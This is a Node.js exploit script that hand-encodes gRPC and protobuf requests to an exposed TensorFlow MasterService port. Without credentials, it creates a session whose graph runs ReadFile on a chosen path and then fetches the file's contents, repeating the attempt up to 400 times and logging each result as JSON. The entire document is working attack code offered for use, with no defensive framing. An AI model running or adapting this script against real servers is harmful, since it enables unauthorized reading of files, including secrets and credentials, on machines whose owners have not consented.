// What whoever reaches TensorFlow's port can do: read a file of the process, without any credentials. It asks for a session
// with a graph that reads the file, and runs it, over and over, a line of JSON for each try, until its input ends or a minute
// is over. gRPC by hand: a message is a byte 0, its length and its bytes, over HTTP/2; a field of protobuf is its number and
// kind, then a number, or a length and bytes.
//
// Usage: attack.mjs HOST PORT FROM FILE, where FROM is an address of this machine.
import http2 from 'node:http2';
import net from 'node:net';

const [host, port, localAddress, file] = process.argv.slice(2);
/** The kernel of a host that drops a packet never answers. */
const PATIENCE = 3000;
const EVERY = 150;
const MOST_TRIES = 400;

const varint = (value) => (value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]);
const number = (field, value) => Buffer.from([...varint(field * 8), ...varint(value)]);
const bytes = (field, ...values) => {
  const whole = Buffer.concat(values.map((value) => Buffer.from(value)));
  return Buffer.concat([Buffer.from([...varint(field * 8 + 2), ...varint(whole.length)]), whole]);
};

const [DT_STRING, STRING] = [7, number(6, 7)]; // the latter as the value of an attribute
const attribute = (name, value) => bytes(5, bytes(1, name), bytes(2, value));
const path = bytes(8, number(1, DT_STRING), bytes(2), bytes(8, file)); // a scalar with one text
const GRAPH = Buffer.concat([
  bytes(1, bytes(1, 'path'), bytes(2, 'Const'), attribute('dtype', STRING), attribute('value', path)),
  bytes(1, bytes(1, 'text'), bytes(2, 'ReadFile'), bytes(3, 'path')),
  bytes(4, number(1, 1087)), // the version of the graph's language
]);

/** The message of an answer; an error with its status where there is none. */
function call(session, method, message) {
  return new Promise((resolve, reject) => {
    const stream = session.request({
      ':method': 'POST',
      ':path': `/tensorflow.MasterService/${method}`,
      'content-type': 'application/grpc',
      te: 'trailers',
    });
    const length = Buffer.alloc(5);
    length.writeUInt32BE(message.length, 1);
    const chunks = [];
    let status;
    const onStatus = (headers) => {
      status =
        headers['grpc-status'] === undefined
          ? status
          : `${method} ${headers['grpc-status']} ${headers['grpc-message']}`;
      if (headers['grpc-status'] === '0') status = undefined;
    };
    stream.on('response', onStatus).on('trailers', onStatus).on('error', reject);
    stream.on('data', (chunk) => chunks.push(chunk));
    stream.on('end', () => {
      if (status !== undefined) reject(new Error(status));
      else resolve(Buffer.concat(chunks).subarray(5));
    });
    stream.end(Buffer.concat([length, message]));
  });
}

async function attack() {
  const socket = net.connect({ host, port: Number(port), localAddress });
  let session;
  let timer;
  try {
    return await new Promise((resolve, reject) => {
      timer = setTimeout(() => reject(new Error('no answer')), PATIENCE);
      socket.on('error', reject);
      session = http2.connect(`http://${host}:${port}`, { createConnection: () => socket });
      session.on('error', reject);
      read(session).then(resolve, reject);
    });
  } finally {
    clearTimeout(timer);
    session?.destroy();
    socket.destroy();
  }
}

async function read(session) {
  const made = await call(session, 'CreateSession', bytes(1, GRAPH));
  const handle = made.subarray(2, 2 + made[1]); // its first field, shorter than 128
  const answer = await call(session, 'RunStep', Buffer.concat([bytes(1, handle), bytes(3, 'text:0')]));
  return answer.toString('latin1');
}

let tries = 0;
const timer = setInterval(async () => {
  tries += 1;
  if (tries === MOST_TRIES) clearInterval(timer);
  const began = Date.now();
  const found = await attack().then(
    (text) => ({ text }),
    (error) => ({ failed: error.code ?? error.message }),
  );
  process.stdout.write(`${JSON.stringify({ began, ...found })}\n`);
}, EVERY);
process.stdin.resume().on('end', () => clearInterval(timer));
